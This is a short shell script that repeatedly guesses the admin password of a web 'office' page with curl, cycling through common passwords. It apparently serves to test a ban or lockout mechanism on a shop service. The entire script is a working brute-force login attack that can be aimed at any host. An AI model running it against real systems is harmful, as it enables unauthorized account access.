#!/bin/sh
# Tries one password after the other at the shop's office, and says what comes of it. Once it is banned, nothing does.
set -u
while :; do
    for password in 123456 password letmein admin qwerty dragon; do
        answer=$(curl --silent --output /dev/null --max-time 2 --write-out '%{http_code}' \
            --user "admin:$password" "http://${TARGET:-shop:8080}/office") || answer="no answer"
        echo "admin:$password: $answer"
        sleep "${PAUSE:-4}"
    done
done
